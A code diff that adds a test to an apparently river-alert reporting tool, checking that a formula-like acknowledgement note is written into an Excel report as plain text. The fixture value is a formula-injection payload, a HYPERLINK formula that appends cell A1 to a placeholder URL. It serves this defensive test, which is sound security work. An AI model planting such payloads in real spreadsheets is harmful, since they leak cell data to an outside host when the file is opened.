@@ -89,3 +89,22 @@ def test_report_rejects_a_bad_date_in_one_line(river_day, tmp_path, capsys) -> N
     assert main(["report", "--config", str(tmp_path / "config.yaml"), "--date", "28-11-2026"]) == 2
     err = capsys.readouterr().err.strip()
     assert len(err.splitlines()) == 1 and "YYYY-MM-DD" in err
+
+
+def test_report_writes_a_formula_like_note_as_text_never_a_formula(river_day, tmp_path) -> None:
+    """An acknowledgement note is typed by a person: ``=HYPERLINK(...)`` must open as text (issue 22)."""
+    import zipfile
+
+    note = '=HYPERLINK("http://x/?"&A1,"klik")'
+    with river_day.store.engine.begin() as conn:
+        conn.execute(schema.alerts.update().where(schema.alerts.c.ack_note.is_not(None)).values(ack_note=note))
+    out = tmp_path / "laporan.xlsx"
+    assert main(["report", "--config", str(tmp_path / "config.yaml"), "--date", "2026-11-28",
+                 "--output", str(out)]) == 0
+    notes = [a["Catatan"] for a in sheet_rows(out, "Peringatan")]
+    assert note in notes
+    cell = next(c for row in load_workbook(out)["Peringatan"].iter_rows() for c in row if c.value == note)
+    assert cell.data_type == "s" and cell.quotePrefix
+    with zipfile.ZipFile(out) as book:
+        sheets = [book.read(n) for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in s for s in sheets)  # no formula anywhere in the workbook
